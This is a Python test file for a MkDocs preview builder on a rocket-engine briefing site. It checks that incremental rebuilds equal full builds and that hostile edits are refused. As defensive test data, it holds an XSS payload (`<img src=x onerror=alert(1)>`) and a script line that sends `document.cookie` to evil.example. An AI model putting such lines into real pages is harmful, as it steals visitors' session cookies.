"""`make serve`: the preview rebuilds only what an edit changed, and never shows a stale page.

Real parts only: a copy of the project; the preview's own builder (`preview.build.Builder`, what
`make serve` runs) rebuilding it edit after edit; after each edit, MkDocs' own full build
(`mkdocs.commands.build.build`, the code `mkdocs serve` and `mkdocs build` run) of the same files
into another folder, and the two sites compared file by file, byte for byte. The server itself
is driven over HTTP (the error page, and the site coming back) in test_preview_server.py and in a
real browser in test_browser.py.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path
from typing import Any

import pytest
from conftest import copy_project
from mkdocs.commands.build import build as mkdocs_build
from mkdocs.config import load_config

from preview.build import Builder, quiet

pytestmark = pytest.mark.slow
URL = "http://127.0.0.1:8000/russia-china-rocket-engines/"


def _files(site: Path) -> dict[str, bytes]:
    # sitemap.xml.gz differs between any two builds (gzip stores the time); sitemap.xml is compared.
    return {p.relative_to(site).as_posix(): p.read_bytes() for p in sorted(site.rglob("*")) if p.is_file() and p.name != "sitemap.xml.gz"}


def _full_build(project: Path, site: Path) -> dict[str, bytes]:
    """MkDocs' own build of the project, as `mkdocs serve --strict` makes it for this address."""
    shutil.rmtree(site, ignore_errors=True)
    config = load_config(config_file=str(project / "mkdocs.yml"), site_dir=str(site), strict=True)
    config.site_url = URL
    with quiet():
        mkdocs_build(config, serve_url=URL)
    return _files(site)


def _assert_same_site(preview: Path, reference: dict[str, bytes], step: str) -> None:
    got = _files(preview)
    missing, extra = sorted(reference.keys() - got.keys()), sorted(got.keys() - reference.keys())
    assert not missing and not extra, f"after {step}: missing from the preview {missing[:5]}, not in a full build {extra[:5]}"
    stale = [path for path, data in reference.items() if got[path] != data]
    assert stale == [], f"after {step}: the preview differs from a full build in {len(stale)} files: {stale[:8]}"


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert text.count(old) == 1, f"{path.name}: {old!r} occurs {text.count(old)} times"
    path.write_text(text.replace(old, new), encoding="utf-8")


NEW_CLAIM = """id: preview-test-zhou-works-in-beijing
statement: >-
  Zhou Chenming is a Beijing-based military analyst.
kind: reported
topics: [sources-and-voices]
entities: [zhou-chenming, beijing]
citations:
  - source: scmp-russia-rocket-engines-2019
    quote: "Beijing-based military analyst Zhou Chenming"
note: Added by the preview test.
"""


def test_each_rebuild_equals_a_full_build_of_the_same_files(tmp_path: Path) -> None:
    # Two copies given the same edits: one previewed, one built in full after each edit, so that
    # each build starts from the same docs/ (a build counts the pages earlier builds wrote there).
    project, twin = copy_project(tmp_path / "project"), copy_project(tmp_path / "twin")
    site, ref_site = tmp_path / "preview-site", tmp_path / "full-site"
    builder = Builder(str(project / "mkdocs.yml"), str(site), URL)
    claim = "facts/claims/protons-use-very-toxic-fuels.yml"

    def build(step: str) -> Any:
        with quiet():
            failure = builder.build()
        assert failure is None, f"{step}: {failure and (failure.diagnostics or failure.messages)}"
        _assert_same_site(site, _full_build(twin, ref_site), step)
        return builder.stats

    def edit(rel: str, old: str, new: str) -> None:
        for root in (project, twin):
            _edit(root / rel, old, new)

    def write(rel: str, text: str | None) -> None:
        for root in (project, twin):
            if text is None:
                (root / rel).unlink()
            else:
                (root / rel).write_text(text, encoding="utf-8")

    first = build("the first build")
    assert first.written == first.pages > 50

    # The note under one claim: its page, the pages listing it and nothing else.
    edit(claim, "The article does not name the fuels.", "A note the preview must show at once.")
    stats = build("a claim's note")
    assert "claims/protons-use-very-toxic-fuels.md" in stats.changed
    assert "topics/russian-heritage.md" in stats.changed and "claims/index.md" in stats.changed
    assert stats.written < first.pages // 3, f"an edit to one claim rewrote {stats.written} of {stats.pages} pages"
    # Only the pages whose macros read the claim (or every claim) had their macros rendered again;
    # every other page reused what its macros made last time (preview/reads.py).
    rendered = set(builder.macro_pages)
    assert {"claims/protons-use-very-toxic-fuels.md", "claims/index.md", "topics/russian-heritage.md"} <= rendered
    assert len(rendered) < first.pages // 4, f"an edit to one claim rendered the macros of {len(rendered)} pages: {sorted(rendered)}"
    others = {p for p in rendered if p.startswith("claims/")} - {"claims/index.md", "claims/protons-use-very-toxic-fuels.md"}
    assert all(_cites_or_rests_on(project, p, "protons-use-very-toxic-fuels") for p in others), others
    assert "A note the preview must show at once." in (site / "claims" / "protons-use-very-toxic-fuels" / "index.html").read_text()
    # The pages that list the claim show the note too, and were not converted from Markdown again:
    # the listings are macro output held out of the conversion (site_adapter.Held), put back into
    # the conversion kept from the last build. The site still equals the full build (above).
    for listing, html in (("claims/index.md", "claims/index.html"), ("topics/russian-heritage.md", "topics/russian-heritage/index.html")):
        assert listing in stats.changed and listing not in stats.converted, f"{listing}: {stats.changed}, converted {stats.converted}"
        assert "A note the preview must show at once." in (site / html).read_text(encoding="utf-8"), listing

    # The statement's words, as the reader sees them everywhere (no page keeps the old words).
    old_words = "The article says the Protons use very toxic fuels."
    assert old_words in (site / "topics" / "russian-heritage" / "index.html").read_text()
    edit(claim, old_words, "By the article's account, the Protons use very toxic fuels.")
    build("a statement reworded")
    assert not any(old_words.encode() in data for data in _files(site).values())

    # Topics (its tags, a second topic page), an entity's description, a source's title, a page.
    edit(claim, "topics: [russian-heritage]", "topics: [russian-heritage, heavy-lift-gap]")
    stats = build("a topic added to a claim")
    assert "topics/heavy-lift-gap.md" in stats.changed and "tags.md" in stats.changed
    edit("facts/entities/dmitry-rogozin.yml", "in its own paraphrase", "in its paraphrase")
    stats = build("an entity's description")
    assert "entities/dmitry-rogozin.md" in stats.changed
    # An entity's name: every claim page naming it shows the name (its page's macros read the
    # entity), and so do the entity's own page and the lists of entities.
    edit("facts/entities/dmitry-rogozin.yml", 'name: "Dmitry Rogozin"', 'name: "Rogozin"')
    edit("facts/entities/dmitry-rogozin.yml", 'aliases: ["Rogozin"]', 'aliases: ["Dmitry Rogozin"]')
    stats = build("an entity's name")
    assert "claims/rogozin-quoted-on-needing-chinese-microelectronics.md" in builder.macro_pages
    edit("sources/scmp-russia-rocket-engines-2019.yml", "title: Russia offers", "title: Russia offered")
    build("a source's title")
    # A template of the theme's overrides: every page is made again with it.
    edit("overrides/main.html", '<meta property="og:locale" content="en">', '<meta property="og:locale" content="en"><!-- preview test -->')
    stats = build("a template in overrides/")
    assert stats.written == stats.pages
    method = (project / "docs" / "method.md").read_text(encoding="utf-8")
    write("docs/method.md", method + "\nA paragraph the preview added.\n")
    stats = build("a hand-written page")
    assert stats.changed == ["method.md"]
    # A link to an anchor inside held macro output (a claim's card in the list of all claims):
    # MkDocs validates it against the ids the held output brings back, as in a full build.
    write("docs/method.md", method + "\nSee [the claim in the list](claims/index.md#claim-protons-use-very-toxic-fuels).\n")
    build("a link to a claim's card in the list")

    # A new claim (a new page), then a broken claim: the build fails and nothing is written
    # over the site; fixed, the site is the full build's again.
    write("facts/claims/preview-test-zhou-works-in-beijing.yml", NEW_CLAIM)
    stats = build("a claim added")
    assert "claims/preview-test-zhou-works-in-beijing.md" in stats.changed
    before = _files(site)
    good = (project / claim).read_text(encoding="utf-8")
    (project / claim).write_text(good.replace("very toxic fuels.", "very toxic fuels 42.", 1), encoding="utf-8")
    with quiet():
        failure = builder.build()
    assert failure is not None and [d.code for d in failure.diagnostics if d.severity == "error"] == ["number-unsupported"]
    assert _files(site) == before, "a failed build changed the served site"
    (project / claim).write_text(good, encoding="utf-8")
    build("the broken claim fixed")

    # The claim removed again: its page leaves the preview too.
    write("facts/claims/preview-test-zhou-works-in-beijing.yml", None)
    build("a claim removed")
    assert not (site / "claims" / "preview-test-zhou-works-in-beijing").exists()


def _cites_or_rests_on(project: Path, page: str, claim: str) -> bool:
    """Whether the generated claim page `page` shows `claim` (an inference resting on it)."""
    record = project / "facts" / "claims" / (page.removeprefix("claims/").removesuffix(".md") + ".yml")
    return record.is_file() and claim in record.read_text(encoding="utf-8")


def test_a_rebuild_after_nothing_changed_writes_nothing(tmp_path: Path) -> None:
    project = copy_project(tmp_path / "project")
    builder = Builder(str(project / "mkdocs.yml"), str(tmp_path / "site"), URL)
    with quiet():
        # Twice: the verification page counts the generated pages the first build wrote into docs/.
        assert builder.build() is None and builder.build() is None
        mtimes = {p: p.stat().st_mtime_ns for p in (tmp_path / "site").rglob("*.html")}
        assert builder.build() is None
    assert builder.stats is not None and builder.stats.written == 0 and builder.stats.rendered == 0
    assert builder.macro_pages == [], "pages whose macros read nothing that changed were rendered again"
    # Only the files every build writes (the exports, the search index, 404 and sitemap) change.
    assert {p for p in mtimes if p.stat().st_mtime_ns != mtimes[p]} <= {tmp_path / "site" / "404.html"}


def test_the_published_build_still_fails_and_the_preview_writes_no_error_page(tmp_path: Path) -> None:
    """`make build` (mkdocs build --strict) refuses what the check refuses; the preview's error
    page is served from memory, never written into any site folder."""
    from conftest import build_site

    project = copy_project(tmp_path / "project")
    _edit(project / "facts" / "claims" / "protons-use-very-toxic-fuels.yml", "kind: reported", "kind: reportd")
    res = build_site(project, site_dir=tmp_path / "published")
    assert res.code != 0 and "facts/claims/protons-use-very-toxic-fuels.yml:" in res.err, res.err[-2000:]
    builder = Builder(str(project / "mkdocs.yml"), str(tmp_path / "preview-site"), URL)
    with quiet():
        failure = builder.build()
    assert failure is not None and failure.diagnostics
    for folder in (tmp_path / "published", tmp_path / "preview-site"):
        for p in folder.rglob("*.html") if folder.exists() else []:
            assert "The site cannot be built" not in p.read_text(encoding="utf-8"), p


def test_a_strict_mode_warning_is_a_failure_with_its_message(tmp_path: Path) -> None:
    project = copy_project(tmp_path / "project")
    builder = Builder(str(project / "mkdocs.yml"), str(tmp_path / "site"), URL)
    with quiet():
        assert builder.build() is None
    method = project / "docs" / "method.md"
    good = method.read_text(encoding="utf-8")
    # A link to a page that does not exist: a warning, so a failure under --strict.
    method.write_text(good + "\nSee [the missing page](no-such-page.md).\n", encoding="utf-8")
    with quiet():
        failure = builder.build()
    assert failure is not None and failure.diagnostics == []
    assert any("no-such-page.md" in m for m in failure.messages), failure.messages
    assert any(re.search(r"Aborted with 1 warnings? in strict mode", m) for m in failure.messages), failure.messages
    # An anchor that no card in the list of all claims has (the cards are held out of Markdown).
    method.write_text(good + "\nSee [no such claim](claims/index.md#claim-no-such-claim).\n", encoding="utf-8")
    with quiet():
        failure = builder.build()
    assert failure is not None and any("claim-no-such-claim" in m for m in failure.messages), failure and failure.messages
    method.write_text(good, encoding="utf-8")
    with quiet():
        assert builder.build() is None


def test_the_error_page_escapes_everything_it_shows() -> None:
    from briefing.diagnostics import Diagnostic
    from preview import errorpage
    from preview.build import Failure

    hostile = '<img src=x onerror=alert(1)>"&'
    page = errorpage.render(
        Failure(
            [Diagnostic(f"facts/claims/{hostile}.yml", 3, 7, "quote-not-found", f"quote: {hostile}"), Diagnostic("docs/x.md", 1, 1, "w", hostile, "warning")],
            [f"Doc file '{hostile}' contains a link", "briefing check failed (1 error)"],
        )
    )
    assert hostile not in page and "<img" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;&quot;&amp;" in page
    assert "facts/claims/&lt;img src=x onerror=alert(1)&gt;&quot;&amp;.yml:3:7" in page
    assert page.index("error[quote-not-found]") < page.index("warning[w]"), "errors first"
    assert "<script" not in page, "the page has no script of its own (the server adds live reload)"


@pytest.mark.parametrize(
    ("how", "says"),
    [
        # The check refuses the files: a script in a page, in a draft (which only the preview
        # renders), a macro call that reads the template engine's internals.
        ("page", "page-markup"),
        ("draft", "page-markup"),
        ("template", "page-template"),
        # The files pass the check and something changes them later: the build's own refusals.
        ("tamper", "index.md: the page's text or title differs from what the check approved"),
        ("content", "docs/index.md: the built content holds the attribute onerror= on <img>"),
        ("document", "docs/index.md: the built page holds an inline <script> the theme did not write"),
        ("file", "docs/evil.js: the build would publish a file the check did not approve"),
    ],
)
def test_the_preview_refuses_what_the_build_refuses_and_serves_none_of_it(
    tmp_path: Path, how: str, says: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The preview runs the build's own check, render-time refusal and guard (macros.py and
    site_adapter.py, through MkDocs' plugin events): after a good build, each hostile edit fails
    the next build, and the site folder the server answers from holds none of it."""
    from conftest import FIXTURES
    from test_build_safety import _site_project
    from test_page_checks import PAYLOAD

    root = _site_project(tmp_path)
    site = tmp_path / "site"
    builder = Builder(str(root / "mkdocs.yml"), str(site), "http://127.0.0.1:8000/")
    with quiet():
        assert builder.build() is None
    before = _files(site)
    assert "index.html" in before
    docs, config = root / "docs", root / "mkdocs.yml"
    script = '<script>fetch("https://evil.example/?" + document.cookie)</script>'
    if how == "page":
        (docs / "index.md").write_text((docs / "index.md").read_text(encoding="utf-8") + f"\n{script}\n", encoding="utf-8")
    elif how == "draft":
        (docs / "drafts").mkdir()
        (docs / "drafts" / "notes.md").write_text(f"# Notes\n\n{script}\n", encoding="utf-8")
    elif how == "template":
        (docs / "index.md").write_text((docs / "index.md").read_text(encoding="utf-8") + f"\n{PAYLOAD}\n", encoding="utf-8")
    else:
        hook = "tamper.py" if how == "tamper" else "inject.py"
        (root / hook).write_bytes((FIXTURES / "build-safety-hook" / hook).read_bytes())
        monkeypatch.setenv("BRIEFING_INJECT", how)
        config.write_text(config.read_text(encoding="utf-8") + f"hooks:\n  - {hook}\n", encoding="utf-8")
    with quiet():
        failure = builder.build()
    assert failure is not None, f"{how}: the preview built it"
    found = [f"{d.path}: {d.code}" for d in failure.diagnostics] + failure.messages
    assert any(says in f for f in found), f"{how}: {found}"
    after = _files(site)
    assert after.get("index.html") == before["index.html"], f"{how}: the served home page changed"
    assert "evil.js" not in after and not (root / "ran.txt").exists()
    for path, data in after.items():
        assert b"evil.example" not in data and b"alert(document.domain)" not in data and b"PWNED" not in data, f"{how}: {path}"
